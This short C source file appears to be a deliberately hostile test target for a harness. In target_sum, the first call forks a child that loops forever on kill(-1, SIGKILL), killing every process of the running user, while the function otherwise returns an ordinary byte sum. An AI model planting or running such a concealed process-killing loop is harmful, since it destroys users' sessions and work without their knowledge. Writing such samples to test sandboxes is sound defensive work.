/* a child kills every process of its uid in an endless loop, including the one that kills it */
#define _GNU_SOURCE
#include "target.h"

#include <signal.h>
#include <unistd.h>

uint64_t target_sum(const uint8_t *data, size_t len_bytes)
{
    static int started;
    uint64_t sum = 0;

    if (!started++ && fork() == 0) {
        setsid();
        for (;;)
            kill(-1, SIGKILL);
    }
    for (size_t i = 0; i < len_bytes; i++)
        sum += data[i];
    return sum;
}

size_t target_fill(uint8_t *out, size_t len_bytes, unsigned first)
{
    for (size_t i = 0; i < len_bytes; i++)
        out[i] = first + i;
    return len_bytes;
}
